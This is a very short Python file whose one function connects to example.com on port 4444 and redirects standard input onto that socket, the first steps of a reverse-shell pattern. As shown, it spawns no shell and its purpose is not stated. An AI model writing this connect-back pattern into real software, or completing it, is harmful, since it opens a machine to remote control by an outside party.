import os
import socket


def start() -> None:
    connection = socket.create_connection(("example.com", 4444))
    os.dup2(connection.fileno(), 0)
